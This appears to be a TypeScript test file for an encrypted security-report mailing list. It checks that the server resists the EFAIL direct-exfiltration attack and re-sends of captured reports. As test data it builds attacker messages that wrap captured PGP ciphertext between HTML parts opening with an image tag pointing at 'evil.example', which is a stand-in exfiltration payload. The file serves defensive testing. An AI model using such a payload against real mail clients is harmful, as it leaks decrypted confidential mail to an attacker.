import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Entity, splitEntity, walk } from '../../src/mail/split-entity.ts';
import { decodeTransfer } from '../../src/mail/transfer-encoding.ts';
import type { News } from '../stand-ins/story-news.ts';
import { attackersHead, type UnderAttack, underAttack } from '../stand-ins/under-attack.ts';

/**
 * Attack (EFAIL, direct exfiltration): somebody who saw an encrypted report pass puts it between two pieces of HTML of his
 * own, so that a program which shows them joined sends its text away as part of an image's address; or waits for the reply.
 * Deeper: `opener-inner.test.ts` (opened beside the HTML, never within), `write-copies.test.ts` (members only, K1).
 */
let story: UnderAttack;
const exfiltrating = '<img src="http://evil.example/?';

before(async () => {
  story = await underAttack();
});
after(() => story.close());

async function captured(canary: string): Promise<string> {
  return story.sealTo('linux-distros', `Content-Type: text/plain\r\n\r\n${canary}\r\n`, story.robin);
}

/** The three ways to put a ciphertext between HTML: as PGP/MIME, as armour in a text, as a file. */
const wrappings = {
  'PGP/MIME': (armour: string) =>
    `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n${armour}\r\n--e--\r\n`,
  armour: (armour: string) => `Content-Type: text/plain\r\n\r\n${armour}`,
  'armour in the HTML itself': (armour: string) => `Content-Type: text/html\r\n\r\n${armour}`,
  'a file': (armour: string) =>
    `Content-Type: application/octet-stream; name="x.pgp"\r\nContent-Disposition: inline\r\n\r\n${armour}`,
} as const;

function between(part: string): string {
  const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}`;
  const parts = [html(exfiltrating), part, html('">')].map((one) => `--m\r\n${one}\r\n`).join('');
  return `${attackersHead('[vs] look at this', 'Content-Type: multipart/mixed; boundary="m"')}\r\n${parts}--m--\r\n`;
}

function leavesOf(copy: News): readonly Entity[] {
  const split = splitEntity(Buffer.from(copy.text));
  assert.ok(split.kind === 'entity');
  return walk(split.entity).filter(({ children }) => children.length === 0);
}

const textOf = (leaf: Entity) => Buffer.from(decodeTransfer(leaf.body, leaf.transferEncoding)).toString();

for (const [name, wrap] of Object.entries(wrappings)) {
  test(`a captured report between HTML, as ${name}: its text stands apart from the HTML, and only members have it`, async () => {
    const canary = `canary-${name.replaceAll(/\W/g, '-').toLowerCase()}`;
    story.skipNews();
    await story.attack(between(wrap(await captured(canary))));
    const copy = await story.onlyNews(story.bob);
    assert.match(copy.says('From'), /mallory-\S+@evil\.example/);
    assert.match(copy.says('Signature'), /^none/);
    const html = leavesOf(copy).filter(({ contentType }) => contentType.value === 'text/html');
    assert.ok(
      html.some((leaf) => textOf(leaf).trim() === exfiltrating),
      'the attacker’s part ends where it ended',
    );
    const [opened, ...others] = leavesOf(copy).filter((leaf) => textOf(leaf).includes(canary));
    assert.ok(opened && others.length === 0);
    // One part of our own making, after everything that the attacker wrote; no program shows it joined to the HTML.
    assert.equal(opened.disposition?.value, 'attachment');
    assert.equal(opened.contentType.value, 'text/plain');
    assert.equal(opened.transferEncoding, 'base64');
    assert.ok(html.every((leaf) => leaf.end <= opened.start));
    assert.doesNotMatch(story.everythingSent(), new RegExp(canary), 'nothing of it leaves in clear');
    // Whatever the attacker hears, he has no key of a member: his own copies hold nothing that was opened.
    const his = story.sink.mails().filter(({ recipient }) => recipient.endsWith('@evil.example'));
    for (const { raw } of his) assert.doesNotMatch(raw, /BEGIN PGP MESSAGE/);
  });
}

test('a body that the list has already seen is nobody’s to send again: it is held', async () => {
  story.skipNews();
  const armour = await captured('canary-seen');
  const honest = [
    `From: Robin <${story.robin.address}>`,
    'To: linux-distros@lists.example.org',
    'Subject: ...',
    'Message-ID: <seen@researcher.example>',
    'MIME-Version: 1.0',
    wrappings['PGP/MIME'](armour),
  ].join('\r\n');
  await story.attack(honest);
  assert.match((await story.onlyNews(story.bob)).text, /canary-seen/);
  await story.attack(between(wrappings['PGP/MIME'](armour)));
  assert.deepEqual(await story.news(story.bob), []);
  assert.ok((await story.inbox('held')).length > 0);
});

test('honest reports are served as before', async () => {
  await story.stillServes();
  await story.end();
});
